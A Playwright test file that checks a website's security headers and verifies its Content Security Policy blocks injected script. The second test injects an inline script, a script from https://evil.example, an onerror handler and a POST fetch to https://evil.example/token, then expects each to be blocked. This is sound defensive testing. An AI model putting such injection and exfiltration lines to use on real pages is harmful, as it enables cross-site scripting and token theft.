import { expect, test } from '../fixtures.ts';

test('every answer of the site carries the security headers', async ({ request, page }) => {
  await page.goto('/');
  const font = await page.locator('link[as=font]').first().getAttribute('href');
  for (const path of ['/', '/services', '/orders', font ?? '', '/nowhere', '/assets/gone.js']) {
    const headers = (await request.get(path)).headers();
    expect(headers, path).toMatchObject({
      'strict-transport-security': 'max-age=63072000',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
      'cross-origin-opener-policy': 'same-origin-allow-popups',
    });
    const policy = (headers['content-security-policy'] ?? '').split('; ');
    expect(policy).toEqual(
      expect.arrayContaining(["default-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]),
    );
    expect(policy.find((directive) => directive.startsWith('script-src '))).toMatch(
      /^script-src 'self'( 'sha256-[\w+/]{43}='){3} https:\/\/apis\.google\.com$/,
    );
  }
});

test('a script that gets into a page neither runs nor speaks to anybody', async ({ page, consoleErrors }) => {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (violation: string) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      (window as unknown as { reportViolation(text: string): void }).reportViolation(
        `${effectiveDirective} ${blockedURI}`,
      );
    });
  });
  await page.goto('/about');
  await page.evaluate(async () => {
    const script = (properties: Partial<HTMLScriptElement>) =>
      document.body.append(Object.assign(document.createElement('script'), properties));
    script({ text: 'document.body.id = "inline"' });
    script({ src: 'https://evil.example/script.js' });
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="data:," onerror="document.body.id = \'handler\'">',
    );
    await fetch('https://evil.example/token', { method: 'POST' }).catch(() => {});
  });
  await expect
    .poll(() => violations.toSorted())
    .toEqual([
      'connect-src https://evil.example/token',
      'script-src-attr inline',
      'script-src-elem https://evil.example/script.js',
      'script-src-elem inline',
    ]);
  await expect(page.locator('body')).not.toHaveAttribute('id');
  // The browser says each on the console, too.
  for (const error of consoleErrors.splice(0)) expect(error).toContain('Content Security Policy');
});
